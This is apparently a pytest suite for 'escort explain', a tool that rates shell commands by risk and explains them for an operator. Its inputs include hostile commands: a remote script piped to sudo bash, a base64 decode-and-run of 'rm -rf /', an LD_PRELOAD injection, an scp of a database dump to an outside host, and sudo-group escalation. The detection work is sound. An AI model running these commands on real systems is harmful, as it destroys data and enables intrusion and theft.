"""escort explain: the risk engine as the escort sees it."""
import json
import os
import subprocess

import pytest

from conftest import ROOT

RULES = str(ROOT / "rules")
LEVELS = ["info", "low", "medium", "high", "critical"]


def explain(escort, *line, json_out=True, rules=RULES):
    args = [escort, "explain", "--rules", rules] + (["--json"] if json_out else []) + ["--"]
    p = subprocess.run(args + list(line), capture_output=True, text=True, timeout=30)
    return p


def rated(escort, line):
    p = explain(escort, line)
    assert p.returncode == 0, p.stderr
    return json.loads(p.stdout)


def test_json_has_exactly_the_documented_shape(escort):
    out = rated(escort, "sudo rm -rf /srv/app/uploads")
    assert set(out) == {"line", "level", "summary", "findings"}
    assert out["level"] == "high"
    for f in out["findings"]:
        assert set(f) == {"rule", "level", "attack", "explain", "why", "ask", "undo"}
        assert f["level"] in LEVELS
    top = out["findings"][0]
    assert top["rule"] == "destruction.rm-recursive"
    assert "/srv/app/uploads" in top["explain"]
    assert "T1485" in top["attack"]


def test_everyday_work_is_not_flagged(escort):
    for line in ("ls -la /var/log", "ps aux | grep nginx | wc -l", "df -h && free -m",
                 "systemctl status nginx", "grep -i error /var/log/syslog | tail -20"):
        assert LEVELS.index(rated(escort, line)["level"]) <= 1, line


@pytest.mark.parametrize("line,level,rule", [
    ("curl -s http://203.0.113.5/x.sh | sudo bash", "critical", "exec.download-and-run"),
    ("echo cm0gLXJmIC8K | base64 -d | sh", "critical", "exec.decode-and-run"),
    ("$a -rf /", "high", "computed-command"),
    ("r\\m -rf /srv", "critical", "disguised-command"),
    ("echo 'oops", "high", "parse-error"),
    ("vim /etc/hosts", "medium", "exec.interactive-editor"),
    ("frobnicate-widgets --all", "medium", "unknown-program"),
    ("ssh db1 'systemctl stop postgresql'", "high", "system.stop-service"),
    ("find / -name '*.log' -exec rm -f {} \\;", "medium", "destruction.rm-files"),
    ("env LD_PRELOAD=/tmp/x.so nohup timeout 5 ls", "high", "persistence.ld-preload-env"),
])
def test_dangerous_lines_and_how_they_are_seen(escort, line, level, rule):
    out = rated(escort, line)
    assert LEVELS.index(out["level"]) >= LEVELS.index(level), out
    assert rule in [f["rule"] for f in out["findings"]], out


def test_the_level_is_the_highest_of_the_parts(escort):
    out = rated(escort, "ls; uptime; shutdown -h now")
    assert out["level"] == "critical"
    assert out["findings"][0]["rule"] == "system.power"


def test_unknown_program_uses_the_manual_summary(escort):
    out = rated(escort, "dd if=disk.img of=copy.img")
    unknown = [f for f in out["findings"] if f["rule"] == "unknown-program"]
    assert unknown and "convert and copy a file" in unknown[0]["explain"]
    assert unknown[0]["why"] == "unknown program: ask the operator what it does"


def test_hidden_characters_are_shown_and_raise_the_level(escort):
    out = rated(escort, "ls \u202e gnp.exe \x1b[8m hidden")
    assert out["level"] == "high"
    assert "<U+202E>" in out["line"] and "\\x1b" in out["line"]
    assert "\u202e" not in out["line"] and "\x1b" not in out["line"]
    text = explain(escort, "echo \u200bhi", json_out=False)
    assert "<U+200B>" in text.stdout and "\u200b" not in text.stdout
    assert "hidden-characters" in text.stdout


def test_a_script_is_as_risky_as_what_it_contains(escort, tmp_path):
    script = tmp_path / "cleanup.sh"
    script.write_text("#!/bin/bash\necho cleaning\nrm -rf /var/lib/mysql\n")
    script.chmod(0o755)
    alone = rated(escort, "rm -rf /var/lib/mysql")["level"]  # a database's data: critical
    for line in (f"bash {script}", f"sh {script}", str(script)):
        out = rated(escort, line)
        assert out["level"] == alone == "critical", line
        assert "/var/lib/mysql" in out["summary"]
    big = tmp_path / "big.sh"
    big.write_text("echo x\n" * 20000 + "reboot\n")  # past the 64 KiB that is read
    out = rated(escort, f"bash {big}")
    assert out["level"] in LEVELS


def test_explanations_name_the_concrete_things(escort):
    out = rated(escort, "scp /var/backups/db.sql me@203.0.113.5:/tmp/")
    text = " ".join(f["explain"] for f in out["findings"])
    assert "/var/backups/db.sql" in text and "203.0.113.5" in text
    out = rated(escort, "usermod -aG sudo mallory")
    assert any("mallory" in f["explain"] for f in out["findings"])


def test_text_output_and_usage(escort):
    p = explain(escort, "rm", "-rf", "/tmp/x", json_out=False)
    assert p.returncode == 0
    assert "Risk:     high" in p.stdout and "Ask the operator:" in p.stdout
    for args in (["explain"], ["explain", "--bogus", "x"]):
        assert subprocess.run([escort] + args, capture_output=True).returncode == 2


def test_a_bad_rules_file_is_refused_with_file_and_line(escort, tmp_path):
    (tmp_path / "bad.yaml").write_text(
        "- id: broken\n  level: extreme\n  match: {command: [ls]}\n")
    p = explain(escort, "ls", rules=str(tmp_path))
    assert p.returncode == 1
    assert "bad.yaml:2" in p.stderr and "level must be" in p.stderr
    (tmp_path / "bad.yaml").write_text("- id: x\n  level: low\n  match: {bogus: 1}\n")
    p = explain(escort, "ls", rules=str(tmp_path))
    assert p.returncode == 1 and "unknown match key 'bogus'" in p.stderr
    p = explain(escort, "ls", rules=str(tmp_path / "missing"))
    assert p.returncode == 1 and "No such file" in p.stderr


def test_here_documents_fed_to_a_shell_are_rated(escort):
    assert rated(escort, "bash <<EOF\nrm -rf /srv\nEOF\n")["level"] == "critical"
    assert rated(escort, "sh <<< 'shutdown -h now'")["level"] == "critical"
    assert rated(escort, "cat <<EOF > notes.txt\nhello\nEOF\n")["level"] in ("info", "low")


def batch(escort, data, rules=RULES, env=None):
    p = subprocess.run([escort, "explain", "--batch", "--rules", rules], input=data,
                       capture_output=True, timeout=60, env=env)
    assert p.returncode == 0, p.stderr
    out = p.stdout.decode()
    assert out.endswith("\n")
    return [json.loads(line) for line in out.splitlines()]


def test_batch_rates_one_line_per_line_as_explain_does(escort):
    lines = ["ls -la /var/log", "sudo rm -rf /var/lib/postgresql/15/main/pg_wal",
             "", "systemctl stop auditd", "# a comment"]
    out = batch(escort, ("\n".join(lines) + "\n").encode())
    assert [o["input"] for o in out] == [1, 2, 3, 4, 5]
    for o, line in zip(out, lines):
        assert "error" not in o
        alone = rated(escort, line) if line else None
        if alone:
            for key in ("line", "level", "summary", "findings"):
                assert o[key] == alone[key], (line, key)
        assert o["rules"] == [f["rule"] for f in o["findings"]]
        assert o["explain"] == (o["findings"][0]["explain"] if o["findings"] else "")
        assert o["ask"] == (o["findings"][0]["ask"] if o["findings"] else "")
    assert out[1]["level"] == "critical" and "destruction.database-data" in out[1]["rules"]
    assert "destruction.rm-recursive" in out[1]["rules"]
    assert out[2]["level"] == "info" and out[2]["rules"] == []


def test_batch_gives_bad_lines_an_error_and_goes_on(escort):
    huge = b"echo " + b"x" * (200 * 1024)
    data = b"ls\n" + b"rm -rf /tmp/\xff\xfe\n" + b"ls \x00 -la\n" + huge + b"\n" + \
        b"\xe2\x82\n" + b"uptime"  # a cut-off character; the last line has no line feed
    out = batch(escort, data)
    assert [o["input"] for o in out] == [1, 2, 3, 4, 5, 6]
    assert out[0]["level"] == "info" and out[5]["level"] == "info"
    assert "UTF-8" in out[1]["error"] and out[1]["at"] == 12 and "line" not in out[1]
    assert "NUL" in out[2]["error"] and out[2]["at"] == 3
    assert "too long" in out[3]["error"] and out[3]["length"] == len(huge)
    assert "UTF-8" in out[4]["error"]


def test_batch_reads_crlf_line_ends_and_an_empty_input(escort):
    out = batch(escort, b"uptime\r\nls -la\r\n")
    assert [o["line"] for o in out] == ["uptime", "ls -la"]
    assert all(o["level"] == "info" for o in out)
    p = subprocess.run([escort, "explain", "--batch", "--rules", RULES], input=b"",
                       capture_output=True, timeout=30)
    assert p.returncode == 0 and p.stdout == b""


def test_batch_answers_each_line_before_the_input_ends(escort):
    """A program can write a line and read its answer (no wait for the end)."""
    p = subprocess.Popen([escort, "explain", "--batch", "--rules", RULES],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        for line, level in (("uptime", "info"), ("shutdown -h now", "critical")):
            p.stdin.write(line.encode() + b"\n")
            p.stdin.flush()
            assert json.loads(p.stdout.readline())["level"] == level
    finally:
        p.stdin.close()
        assert p.wait(timeout=30) == 0


def test_batch_usage(escort):
    for args in (["explain", "--batch", "ls"], ["explain", "--batch", "--bogus"]):
        p = subprocess.run([escort] + args, capture_output=True, stdin=subprocess.DEVNULL)
        assert p.returncode == 2
    p = subprocess.run([escort, "explain", "--batch", "--rules", "/nonexistent"],
                       capture_output=True, stdin=subprocess.DEVNULL)
    assert p.returncode == 1


@pytest.mark.parametrize("line,says,never", [
    ("find /srv/app/uploads -type f -mtime +30 -delete",
     "every file in /srv/app/uploads last changed more than 30 days ago, in every folder "
     "below it", ["-mtime", "+30 and"]),
    ("find /srv -type f -exec rm -f {} \\;", "every file in /srv", ["{}"]),
    ("rm -rf /", "the whole machine", ["Deletes /"]),
    ("docker rm -f $(docker ps -aq)", "every container", ["$("]),
    ("systemctl stop auditd", "service: auditd", ["stop and", "and stop"]),
    ("service rsyslog stop", "service: rsyslog", ["stop and", "and stop"]),
    ("head -n 50 /var/log/syslog", "/var/log/syslog", ["50 and"]),
    ("for f in *.log; do rm $f; done", "the variable f", ["$f"]),
    ("ss -tlnp", "this machine's network connections", ["nothing named", "another computer"]),
    ("kubectl delete namespace monitoring", "the namespace monitoring", ["namespace and"]),
    ("redis-cli del 'cache:*'", "cache:*", ["every file"]),
])
def test_explanations_say_what_happens_in_plain_words(escort, line, says, never):
    out = rated(escort, line)
    text = " ".join([out["summary"]] + [f["explain"] + " " + f["ask"] for f in out["findings"]])
    assert says in text, text
    for bad in never:
        assert bad not in text, (bad, text)


def test_no_rule_for_a_part_of_a_program_is_not_no_rule_for_it(escort):
    out = rated(escort, "docker frobnicate web")
    unknown = [f for f in out["findings"] if f["rule"] == "unknown-program"][0]
    assert "Runs docker frobnicate." in unknown["explain"]
    assert "no rule for this part of docker" in unknown["explain"]
    assert "a program escort has no rule for" not in unknown["explain"]
    assert out["level"] == "medium"
